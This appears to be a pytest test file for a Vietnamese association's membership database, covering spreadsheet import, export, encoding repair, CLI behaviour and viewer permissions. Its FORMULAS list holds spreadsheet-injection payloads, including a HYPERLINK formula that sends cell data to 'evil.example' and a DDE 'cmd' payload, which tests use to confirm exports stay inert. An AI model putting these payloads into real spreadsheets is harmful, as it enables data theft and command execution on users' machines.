    lines = good.split(b"\r\n")
    lines[2] = lines[2].replace("Trương".encode(), b"Tr\xff\xf0ng")
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + b"\r\n".join(lines))
    return path


@pytest.mark.parametrize("bom", [False, True])
@pytest.mark.parametrize("encoding", ["auto", "utf-8"])
def test_a_utf8_csv_with_a_stray_byte_is_refused_naming_where(session, tmp_path, bom, encoding):
    path = stray_byte_csv(tmp_path / "list.csv", bom=bom)
    message = refused(session, path, encoding=encoding)
    assert message.startswith("Tệp có vẻ là UTF-8 nhưng hỏng ở 2 chỗ (đầu tiên ở dòng 3, ký tự")
    assert "lưu lại dạng CSV UTF-8" in message


def test_a_legacy_csv_with_a_byte_windows_1258_lacks_is_read_not_crashed(session, tmp_path):
    path = tmp_path / "list.csv"
    path.write_bytes(encode_tcvn3(csv_bytes(CSV_ROWS, ";")) + b"\x8d\r\n")  # cp1258: undefined
    plan = plan_import(session.store, path, "members")
    assert plan.encoding == "tcvn3"
    assert [r.change.values["full_name"] for r in plan.rows if r.change] == [
        "Nguyễn Thị Thủy",
        "Trương Thị Ngọc Hường",
    ]


def test_cli_import_of_a_csv_with_a_stray_byte_exits_2_with_the_place(cli, tmp_path, capsys):
    path = stray_byte_csv(tmp_path / "list.csv")
    code, out = run("sheet", "import", "--data", str(cli), "--table", "members", str(path))
    err = capsys.readouterr().err
    assert code == 2 and out == ""
    assert "dòng 3" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_an_xlsx_typed_with_vntime_fonts_is_retyped(session, tmp_path):
    def vntime(text: str) -> str:
        """What Excel shows for text typed in a ".VnTime" font: TCVN3 bytes as Windows-1252."""
        return encode_tcvn3(text).decode("cp1252")

    path = xlsx(
        tmp_path / "vntime.xlsx",
        [
            [vntime("Họ và tên"), vntime("Năm sinh"), vntime("Chi hội")],
            [vntime("Nguyễn Thị ánh"), 1985, vntime("Thôn Đông")],  # TCVN3 has no "Á"
            [vntime("Trần Thị Bích"), 1990, vntime("thôn bắc")],
        ],
    )
    assert vntime("Họ và tên") == "Hä vµ tªn"
    plan = plan_import(session.store, path, "members")
    assert plan.encoding == "tcvn3"
    assert [r.change.values["full_name"] for r in plan.rows] == ["Nguyễn Thị Ánh", "Trần Thị Bích"]
    assert outcome(plan, 3).change.values["branch_id"] == BAC


# -- other tables --------------------------------------------------------------------------


def test_branch_heads_cadres_and_branches_import(session, tmp_path):
    heads = xlsx(
        tmp_path / "heads.xlsx",
        [
            [
                "Họ tên",
                "Năm sinh",
                "Chi hội",
                "Đảng viên",
                "Phát triển Đảng",
                "Kiêm nhiệm",
                "Mức hỗ trợ",
                "Nguồn hỗ trợ",
                "Hỗ trợ hàng tháng",
            ],
            [
                "Lê Thị Cúc",
                1978,
                "Thôn Bắc",
                "x",
                "Đã kết nạp",
                "Tổ trưởng tổ vay vốn; CTV y tế",
                "1.500.000",
                "Ngân sách địa phương",
                "Có",
            ],
        ],
    )
    plan = plan_import(session.store, heads, "branch_heads")
    values = plan.rows[0].change.values
    assert values["is_party_member"] == 1 and values["party_development"] == "admitted"
    assert values["concurrent_roles"] == '["loan_group_leader", "health_collaborator"]'
    assert values["allowance_amount_vnd"] == 1_500_000
    cadres = xlsx(
        tmp_path / "cadres.xlsx",
        [
            ["Họ và tên", "Năm sinh", "Chức vụ", "Trình độ", "LLCT", "Năm công tác Hội"],
            ["Lê Thị Cúc", 1978, "Chủ tịch", "Đại học", "Trung cấp", 2010],
            ["Võ Thị Sen", 1980, "UV BCH", "12/12", "Sơ cấp", "2012"],
        ],
    )
    plan = plan_import(session.store, cadres, "cadres")
    assert [r.change.values["position"] for r in plan.rows] == ["chair", "executive_committee"]
    assert plan.rows[1].change.values["education"] == "upper_secondary"
    branches = xlsx(
        tmp_path / "branches.xlsx",
        [
            ["Tên chi hội", "Thôn/ấp", "Ngày thành lập"],
            ["Thôn Đông", "Thôn Đông", "15/03/1995"],
            ["Chi hội Thôn Nam", "Thôn Nam", None],
        ],
    )
    plan = plan_import(session.store, branches, "branches")
    assert fates(plan) == {2: UPDATE, 3: ADD}
    assert outcome(plan, 2).change.values == {"established_on": "1995-03-15"}  # name kept


@pytest.mark.parametrize("amount", [1e30, "100000000000000000000000", 2**70])
def test_a_number_no_record_can_hold_is_a_rejected_row_not_a_crash(cli, tmp_path, amount):
    heads = xlsx(
        tmp_path / "heads.xlsx",
        [
            ["Họ tên", "Năm sinh", "Chi hội", "Mức hỗ trợ"],
            ["Lê Thị Cúc", 1978, "Thôn Bắc", amount],
            ["Võ Thị Sen", 1980, "Thôn Đông", 500_000],
        ],
    )
    args = ("sheet", "import", "--data", str(cli), "--table", "branch_heads", str(heads))
    code, out = run(*args, "--apply")
    assert code == 1
    assert "Bị từ chối (1):" in out and "dòng 2, chi hội trưởng “Lê Thị Cúc”" in out
    assert "Mức hỗ trợ (đồng): “" in out and "” quá lớn." in out
    assert "Đã lưu: 1 thêm mới" in out


# -- export --------------------------------------------------------------------------------


def test_export_then_import_adds_and_changes_nothing(session, tmp_path):
    apply_import(
        session.store, plan_import(session.store, messy_members(tmp_path / "m.xlsx"), "members")
    )
    before = snapshot(session)
    for personal in (True, False):
        out = tmp_path / f"export-{personal}.xlsx"
        summary = export_list(session.store, "members", out, with_personal=personal)
        assert summary.rows == 6
        plan = plan_import(session.store, out, "members")
        assert plan.header_row == 2
        assert plan.counts() == {ADD: 0, UPDATE: 0, DUPLICATE: 0, UNCHANGED: 6, REJECTED: 0}
        assert apply_import(session.store, plan).inserted == 0
    assert snapshot(session) == before


def test_export_has_labels_real_dates_and_no_personal_columns_unless_asked(session, tmp_path):
    out = tmp_path / "members.xlsx"
    export_list(session.store, "members", out)
    ws = load_workbook(out).active
    headers = [c.value for c in ws[2]]
    assert headers[:3] == ["STT", "Chi hội", "Họ và tên"]
    assert headers[-1] == "Mã bản ghi"
    for personal in ("Số CCCD", "Ngày sinh", "Dân tộc", "Tôn giáo"):
        assert personal not in headers
    assert ws.freeze_panes == "A3"
    assert "DANH SÁCH HỘI VIÊN" in ws["A1"].value
    rows = {r[2]: r for r in ws.iter_rows(min_row=3, values_only=True)}
    assert list(rows) == ["Nguyễn Thị Ánh", "Trần Thị Bình", "Lê Thị Cúc"]  # by given name
    cuc = dict(zip(headers, rows["Lê Thị Cúc"], strict=True))
    assert cuc["Chi hội"] == "Chi hội Thôn Bắc" and cuc["Tình trạng"] == "Đang sinh hoạt"
    assert cuc["Nhóm đặc thù"] == "Phụ nữ khuyết tật; Nữ tiểu thương"
    assert cuc["Ngày vào Hội"] == datetime(2001, 10, 20)
    joined = ws.cell(row=5, column=headers.index("Ngày vào Hội") + 1)
    assert joined.number_format == "dd/mm/yyyy" and joined.is_date

    export_list(session.store, "members", out, with_personal=True, branch="thon dong")
    ws = load_workbook(out).active
    headers = [c.value for c in ws[2]]
    assert {"Số CCCD", "Ngày sinh", "Dân tộc", "Tôn giáo"} <= set(headers)
    rows = [dict(zip(headers, r, strict=True)) for r in ws.iter_rows(min_row=3, values_only=True)]
    assert [r["Họ và tên"] for r in rows] == ["Nguyễn Thị Ánh", "Trần Thị Bình"]
    assert rows[0]["Số CCCD"] == "001185000123"  # text: the zeros stay
    assert rows[0]["Ngày sinh"] == datetime(1985, 3, 5) and rows[1]["Ngày sinh"] == 1990

    assert export_list(session.store, "members", out, status="Đang sinh hoạt").rows == 1
    with pytest.raises(SheetError, match="không tìm thấy chi hội"):
        export_list(session.store, "members", out, branch="Thôn Nam")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&E2,"Bấm")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_text_that_looks_like_a_formula_is_exported_as_text(session, tmp_path):
    """Names and notes from an import, a load or a synced package: never live formulas."""
    changes = [
        Change("members", {"branch_id": DONG, "full_name": "Phạm Thị Lan", "note": text})
        for text in FORMULAS
    ]
    changes.append(Change("members", {"branch_id": DONG, "full_name": "Phạm Thị Lụa", "note": "-"}))
    session.store.write(changes)
    out = tmp_path / "list.xlsx"
    export_list(session.store, "members", out)
    with zipfile.ZipFile(out) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert 'quotePrefix="1"' in styles
    reread = load_workbook(out)
    ws = reread.active
    headers = [c.value for c in ws[2]]
    note = headers.index("Ghi chú") + 1
    written = {}
    for row in ws.iter_rows(min_row=3):
        cell = row[note - 1]
        if cell.value is not None:
            written[cell.value] = cell
        assert row[0].data_type == "n" and isinstance(row[0].value, int)  # STT: a number
    stored = {r[0] for r in session.store.db.execute("SELECT note FROM members WHERE note > ''")}
    assert stored == {f.strip() for f in FORMULAS} | {"-"}  # values are stored trimmed
    for text in stored:
        assert written[text].data_type == "s", text
        assert written[text].quotePrefix, text
    phones = [r[headers.index("Số điện thoại")].value for r in ws.iter_rows(min_row=3)]
    assert "0912345678" in phones  # text, its leading zero kept
    # What was written reads back as the same text.
    plan = plan_import(session.store, out, "members")
    counts = plan.counts()
    assert counts[ADD] == counts[UPDATE] == counts[REJECTED] == 0
    assert counts[UNCHANGED] + counts[DUPLICATE] == 3 + len(FORMULAS) + 1


def test_indicators_export(session, tmp_path):
    out = tmp_path / "chi-tieu.xlsx"
    summary = export_indicators(session.store, out, as_of=date(2025, 10, 1))
    ws = load_workbook(out).active
    assert [c.value for c in ws[2]][:4] == ["Chỉ tiêu", "Tử số", "Mẫu số", "Giá trị"]
    rows = list(ws.iter_rows(min_row=3))
    assert len(rows) == summary.rows > 10
    ids = [r[6].value for r in rows]
    assert "branch_heads_party_members" in ids and "channels_zalo_group" in ids
    percent = rows[ids.index("cadres_software_proficient")][4]
    assert percent.value == pytest.approx(0.99) and percent.number_format == "0.00%"


def test_template_is_a_sheet_the_import_reads(session, tmp_path):
    out = write_template("members", tmp_path / "mau.xlsx")
    book = load_workbook(out)
    ws = book["Danh sách"]
    assert [c.value for c in ws[1]] == [f.label for f in TABLES["members"].fields]
    assert ws.freeze_panes == "A2"
    assert "Ví dụ" in ws["B1"].comment.text
    assert book["Danh mục"].sheet_state == "hidden"
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    status_column = [c.value for c in ws[1]].index("Tình trạng") + 1
    assert any(ref.startswith(f"{chr(64 + status_column)}2") for ref in lists)
    for column, value in ((1, "Thôn Đông"), (2, "Mai Thị Xuân"), (3, "1980")):
        ws.cell(row=2, column=column, value=value)
    ws.cell(row=2, column=status_column, value="Đang sinh hoạt")
    book.save(out)
    plan = plan_import(session.store, out, "members")
    assert fates(plan) == {2: ADD}
    assert plan.rows[0].change.values["status"] == "active"


# -- the command line ------------------------------------------------------------------------


def run(*argv: str) -> tuple[int, str]:
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


@pytest.fixture
def cli(unit, monkeypatch):
    monkeypatch.setenv("SOHOI_PASSWORD", PASSWORD)
    monkeypatch.delenv("SOHOI_USER", raising=False)
    return unit


def test_cli_import_dry_run_then_apply(cli, tmp_path):
    sheet = str(messy_members(tmp_path / "hv.xlsx"))
    code, out = run("sheet", "import", "--data", str(cli), "--table", "members", sheet)
    assert code == 1
    assert "C “Ngày sinh” → Ngày sinh (birth_date)" in out
    assert "Bị từ chối (5):" in out and "dòng 9, hội viên “Đỗ Thị Mai” — Chi hội" in out
    assert "3 thêm mới, 1 cập nhật, 1 trùng dòng khác trong tệp" in out
    assert "Chạy thử: chưa lưu gì" in out
    code, out = run(
        "sheet",
        "import",
        "--data",
        str(cli),
        "--table",
        "members",
        sheet,
        "--create-branches",
        "--map",
        "Giới tính=-",
        "--apply",
    )
    assert code == 1 and "Đã lưu: 4 thêm mới, 1 cập nhật, 1 chi hội mới." in out
    assert "K “Giới tính” → bỏ qua" in out
    code, out = run("sheet", "import", "--data", str(cli), "--table", "members", sheet)
    assert "0 thêm mới, 0 cập nhật" in out


def test_cli_refuses_a_bad_file_with_exit_code_2(cli, tmp_path, capsys):
    noise = tmp_path / "noise.xlsx"
    noise.write_bytes(os.urandom(1000))
    code, _ = run("sheet", "import", "--data", str(cli), "--table", "members", str(noise))
    assert code == 2 and "Tệp được đặt mật khẩu hoặc bị hỏng" in capsys.readouterr().err
    code, _ = run(
        "sheet", "import", "--data", str(cli), "--table", "members", str(noise), "--map", "x"
    )
    assert code == 2


def test_a_viewer_may_try_an_import_but_not_save_it(cli, tmp_path, monkeypatch, capsys):
    admin = login(cli, "admin", PASSWORD)
    add_user(admin, "xem", "mat-khau-xem", "viewer")
    before = snapshot(admin)
    admin.close()
    monkeypatch.setenv("SOHOI_PASSWORD", "mat-khau-xem")
    sheet = str(messy_members(tmp_path / "hv.xlsx"))
    base = ("sheet", "import", "--data", str(cli), "--user", "xem", "--table", "members", sheet)
    assert run(*base)[0] == 1
    assert run(*base, "--apply")[0] == 2
    assert "không được thêm, sửa, xóa dữ liệu" in capsys.readouterr().err
    admin = login(cli, "admin", PASSWORD)
    after = snapshot(admin)
    admin.close()
    assert {entry[3] for entry in after["audit"][len(before["audit"]) :]} == {"login"}
    assert {k: v for k, v in after.items() if k not in ("audit", "sync_state")} == {
        k: v for k, v in before.items() if k not in ("audit", "sync_state")
    }


def test_cli_export_and_template(cli, tmp_path):
    out = tmp_path / "hv.xlsx"
    code, text = run(
        "sheet",
        "export",
        "--data",
        str(cli),
        "--table",
        "members",
        "--out",
        str(out),
        "--with-personal",
        "--branch",
        "Chi hội Thôn Đông",
    )
    assert code == 0 and "Đã xuất 2 dòng hội viên" in text and "dữ liệu cá nhân" in text
    code, text = run(
        "sheet",
        "export",
        "--data",
        str(cli),
        "--table",
        "indicators",
        "--out",
        str(tmp_path / "ct.xlsx"),
    )
    assert code == 0 and (tmp_path / "ct.xlsx").exists()
    assert (
        run("sheet", "export", "--data", str(cli), "--table", "members", "--out", "x.csv")[0] == 2
    )
    code, text = run("sheet", "template", "--table", "cadres", "--out", str(tmp_path / "m.xlsx"))
    assert code == 0 and load_workbook(tmp_path / "m.xlsx")["Danh sách"]["A1"].value == "Họ và tên"


# -- size --------------------------------------------------------------------------------------


def big_sheet(path: Path, n: int) -> Path:
    """`n` valid members in the forms people type, written fast (write-only)."""
    book = Workbook(write_only=True)
    ws = book.create_sheet("Hội viên")
    ws.append(["DANH SÁCH HỘI VIÊN"])
    ws.append(
        [
            "STT",
            "Họ và tên",
            "Ngày sinh",
            "Số CCCD",
            "Số điện thoại",
            "Chi hội",
            "Dân tộc",
            "Ngày vào Hội",
            "Tình trạng",
        ]
    )
    surnames = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Vũ", "Đặng", "Bùi"]
    given = ["Anh", "Bình", "Chi", "Dung", "Hà", "Hạnh", "Lan", "Mai", "Nga", "Thủy"]
    for i in range(n):
        year = 1950 + i % 50
        birth = (
            datetime(year, 1 + i % 12, 1 + i % 28) if i % 3 else f"{1 + i % 28}/{1 + i % 12}/{year}"
        )
        ws.append(
            [
                i + 1,
                f"{surnames[i % 8]} Thị {given[(i // 8) % 10]}",
                birth,
                f"001{1 if year < 2000 else 3}{year % 100:02d}{i:06d}",
                f"09{i:08d}",
                ("Thôn Đông", "Chi hội Thôn Bắc")[i % 2],
                "Kinh",
                "15/05/2005",
                "Đang sinh hoạt",
            ]
        )
    book.save(path)
    return path


@pytest.mark.slow
def test_a_50000_row_sheet_stays_fast(session, tmp_path):
    path = big_sheet(tmp_path / "big.xlsx", 50_000)
    start = time.perf_counter()
    plan = plan_import(session.store, path, "members")
    planned = time.perf_counter() - start
    assert plan.count(ADD) == 50_000 and plan.count(REJECTED) == 0
    result = apply_import(session.store, plan)
    total = time.perf_counter() - start
    assert result.inserted == 50_000
    assert session.store.db.execute("SELECT count(*) FROM members").fetchone()[0] == 50_003
    assert planned < 30 and total < 60, (planned, total)


def test_a_viewer_may_export_a_list_but_not_its_personal_columns(
    cli, tmp_path, monkeypatch, capsys
):
    admin = login(cli, "admin", PASSWORD)
    add_user(admin, "xem", "mat-khau-xem", "viewer")
    admin.close()
    monkeypatch.setenv("SOHOI_PASSWORD", "mat-khau-xem")
    out = tmp_path / "hv.xlsx"
    base = ("sheet", "export", "--data", str(cli), "--user", "xem", "--table", "members")
    assert run(*base, "--out", str(out), "--with-personal")[0] == 2
    assert "không được xuất dữ liệu cá nhân" in capsys.readouterr().err
    assert not out.exists()  # refused before anything is written
    assert run(*base, "--out", str(out))[0] == 0
    headers = next(load_workbook(out).worksheets[0].iter_rows(min_row=2, values_only=True))
    assert "Họ và tên" in headers and "Số CCCD" not in headers


# -- issue 15: nothing lost or moved silently ------------------------------------------------


def merged_header_sheet(path: Path) -> Path:
    """A two-row header: "Thông tin liên hệ" merged over "Số điện thoại | Địa chỉ", the other
    headers merged down over both rows, and a column nobody can guess ("Khen thưởng")."""
    return xlsx(
        path,
        [
            ["DANH SÁCH HỘI VIÊN CHI HỘI THÔN ĐÔNG"],
            ["STT", "Họ và tên", "Ngày sinh", "Thông tin liên hệ", None, "Khen thưởng"],
            [None, None, None, "Số điện thoại", "Địa chỉ"],
            [1, "Hoàng Thị Dung", "12/05/1988", "0912000111", "Xóm 2, Thôn Đông", "Giỏi"],
            [2, "Phan Thị Duyên", "03/09/1992", "0987000222", "Xóm 5, Thôn Đông"],
        ],
        merge=["A1:F1", "A2:A3", "B2:B3", "C2:C3", "D2:E2", "F2:F3"],
    )


def test_a_merged_two_row_header_imports_phone_and_address(session, tmp_path):
    plan = plan_import(session.store, merged_header_sheet(tmp_path / "m.xlsx"), "members")
    assert plan.header_row == 2 and plan.header_rows == 2
    by_letter = {c.letter: (c.header, c.field) for c in plan.columns}
    assert by_letter["D"] == ("Số điện thoại", "phone")
    assert by_letter["E"] == ("Địa chỉ", "address")
    assert fates(plan) == {4: ADD, 5: ADD}
    assert plan.unread_lines() == ["A “STT”", "F “Khen thưởng”"]
    apply_import(session.store, plan)
    stored = members(session)
    assert stored["Hoàng Thị Dung"]["phone"] == "0912000111"
    assert stored["Hoàng Thị Dung"]["address"] == "Xóm 2, Thôn Đông"
    assert stored["Phan Thị Duyên"]["branch_id"] == DONG  # the title's branch


def test_a_parent_and_child_are_combined_only_where_needed(session, tmp_path):
    path = xlsx(
        tmp_path / "c.xlsx",
        [
            ["Họ và tên", "Ngày sinh", "Ngày", None],
            [None, None, "sinh hoạt", "kết nạp"],
            ["Hoàng Thị Dung", "12/05/1988", "x", "20/10/2010"],
        ],
        merge=["A1:A2", "B1:B2", "C1:D1"],
    )
    plan = plan_import(session.store, path, "members")
    headers = {c.letter: (c.header, c.field) for c in plan.columns}
    assert headers["D"] == ("Ngày — kết nạp", "joined_on")  # "kết nạp" alone is not enough
    assert headers["A"] == ("Họ và tên", "full_name")


def test_the_column_choices_change_what_is_imported(session, tmp_path):
    path = merged_header_sheet(tmp_path / "m.xlsx")
    plan = plan_import(session.store, path, "members", mapping={"F": "note", "D": "-"})
    assert plan.unread_lines() == ["A “STT”", "D “Số điện thoại”"]
    apply_import(session.store, plan)
    dung = members(session)["Hoàng Thị Dung"]
    assert dung["note"] == "Giỏi" and dung["phone"] is None


def title_sheet(path: Path) -> Path:
    return xlsx(
        path,
        [
            ["DANH SÁCH HỘI VIÊN CHI HỘI THÔN 3"],
            ["STT", "Họ và tên", "Ngày sinh", "Số điện thoại"],
            [1, "Hoàng Thị Dung", "12/05/1988", "0912000111"],
            [2, "Phan Thị Duyên", "03/09/1992", ""],
        ],
    )


def test_the_branch_of_the_title_is_created_when_asked(session, tmp_path):
    path = title_sheet(tmp_path / "t.xlsx")
    before = snapshot(session)
    refused = plan_import(session.store, path, "members")
    assert refused.count(REJECTED) == 2
    reason = refused.rows[0].problems[0]
    assert reason.field == "branch_id" and "không tìm thấy chi hội" in reason.message
    assert "không được để trống" not in reason.message
    assert snapshot(session) == before

    plan = plan_import(session.store, path, "members", create_branches=True)
    assert plan.default_branch == "Chi hội Thôn 3"
    assert [b.values for b in plan.branches_to_create()] == [
        {"name": "Chi hội Thôn 3", "area_name": "Thôn 3"}
    ]
    result = apply_import(session.store, plan)
    assert (result.inserted, result.branches_created) == (2, 1)
    (branch_id,) = session.store.db.execute(
        "SELECT id FROM branches WHERE name = 'Chi hội Thôn 3'"
    ).fetchone()
    new = [m for m in members(session).values() if m["id"] not in (ANH, BINH, CUC)]
    assert {m["branch_id"] for m in new} == {branch_id}


def test_the_cli_creates_the_branch_of_the_title(cli, tmp_path):
    sheet = str(title_sheet(tmp_path / "t.xlsx"))
    code, out = run(
        "sheet", "import", "--data", str(cli), "--table", "members", sheet,
        "--create-branches", "--apply",
    )  # fmt: skip
    assert code == 0, out
    assert "Sẽ tạo 1 chi hội mới: Chi hội Thôn 3." in out
    assert "1 chi hội mới" in out


def move_sheet(path: Path) -> Path:
    """Ánh (of Thôn Đông, by her citizen ID) listed in Thôn Bắc with a new phone."""
    return xlsx(
        path,
        [
            ["Họ và tên", "Ngày sinh", "Số CCCD", "Số điện thoại", "Chi hội"],
            ["Nguyễn Thị Ánh", "05/03/1985", "001185000123", "0911222333", "Thôn Bắc"],
        ],
    )


def test_a_change_of_branch_is_a_move_applied_only_when_asked(session, tmp_path):
    path = move_sheet(tmp_path / "mv.xlsx")
    plan = plan_import(session.store, path, "members")
    (row,) = plan.rows
    assert row.fate == MOVE and row.move == ("Chi hội Thôn Đông", "Chi hội Thôn Bắc")
    assert "Chuyển chi hội: Chi hội Thôn Đông → Chi hội Thôn Bắc" in row.summary("members")
    result = apply_import(session.store, plan)
    assert result.updated == 1
    anh = members(session)["Nguyễn Thị Ánh"]
    assert (anh["branch_id"], anh["phone"]) == (DONG, "0911222333")  # not moved, phone updated

    plan = plan_import(session.store, path, "members")
    plan.apply_moves = True
    apply_import(session.store, plan)
    assert members(session)["Nguyễn Thị Ánh"]["branch_id"] == BAC


def test_the_cli_moves_nobody_without_move_branches(cli, tmp_path):
    sheet = str(move_sheet(tmp_path / "mv.xlsx"))
    base = ("sheet", "import", "--data", str(cli), "--table", "members", sheet)
    code, out = run(*base)
    assert code == 0
    assert "Chuyển chi hội (1):" in out
    assert "Chuyển chi hội: Chi hội Thôn Đông → Chi hội Thôn Bắc" in out
    assert "--move-branches" in out
    code, out = run(*base, "--apply")
    s = login(cli, "admin", PASSWORD)
    try:
        assert members(s)["Nguyễn Thị Ánh"]["branch_id"] == DONG
    finally:
        s.close()
    code, out = run(*base, "--apply", "--move-branches")
    s = login(cli, "admin", PASSWORD)
    try:
        assert members(s)["Nguyễn Thị Ánh"]["branch_id"] == BAC
    finally:
        s.close()


def test_new_members_are_active_unless_the_sheet_says_otherwise(session, tmp_path):
    path = xlsx(
        tmp_path / "s.xlsx",
        [
            ["Họ và tên", "Ngày sinh", "Chi hội", "Tình trạng"],
            ["Hoàng Thị Dung", "12/05/1988", "Thôn Đông", ""],
            ["Phan Thị Duyên", "03/09/1992", "Thôn Đông", "Chuyển đi"],
        ],
    )
    plan = plan_import(session.store, path, "members")
    assert plan.default_status_rows() == 1
    apply_import(session.store, plan)
    stored = members(session)
    assert stored["Hoàng Thị Dung"]["status"] == "active"
    assert stored["Phan Thị Duyên"]["status"] == "moved"


def test_refused_rows_are_saved_with_their_reasons(session, tmp_path):
    path = merged_header_sheet(tmp_path / "m.xlsx")
    book = load_workbook(path)
    book.active.append([3, "Lê Thị Bé", "31/02/1990", "0912000999", "Xóm 1"])
    book.save(path)
    plan = plan_import(session.store, path, "members")
    out = tmp_path / "loi.xlsx"
    assert write_rejects(plan, out) == 1
    rows = list(load_workbook(out).active.iter_rows(values_only=True))
    assert rows[0] == (
        "STT", "Họ và tên", "Ngày sinh", "Số điện thoại", "Địa chỉ", "Khen thưởng", "Dòng", "Lý do",
    )  # fmt: skip
    assert rows[1][:6] == (3, "Lê Thị Bé", "31/02/1990", "0912000999", "Xóm 1", None)
    assert rows[1][6] == 6 and rows[1][7].startswith("Ngày sinh: ")


def test_the_cli_saves_the_refused_rows(cli, tmp_path):
    sheet = str(messy_members(tmp_path / "hv.xlsx"))
    out_file = tmp_path / "bi-tu-choi.xlsx"
    code, out = run(
        "sheet", "import", "--data", str(cli), "--table", "members", sheet,
        "--rejects", str(out_file),
    )  # fmt: skip
    assert code == 1
    assert f"Đã lưu 5 dòng bị từ chối, kèm lý do, vào {out_file}." in out
    rows = list(load_workbook(out_file).active.iter_rows(values_only=True))
    assert rows[0][-1] == "Lý do" and len(rows) == 6
    assert all(r[-1] for r in rows[1:])


@pytest.mark.parametrize("cell", ["00118500012", "0011850001234", 1188000777])
def test_a_citizen_id_of_the_wrong_length_is_named_so(session, tmp_path, cell):
    path = xlsx(
        tmp_path / "c.xlsx",
        [
            ["Họ và tên", "Ngày sinh", "Số CCCD", "Chi hội"],
            ["Hoàng Thị Dung", "12/05/1992", cell, "Thôn Đông"],
        ],
    )
    (row,) = plan_import(session.store, path, "members").rows
    digits = len(str(cell))
    messages = [p.message for p in row.problems]
    assert messages == [f"số CCCD phải có đúng 12 chữ số (đang có {digits})."]
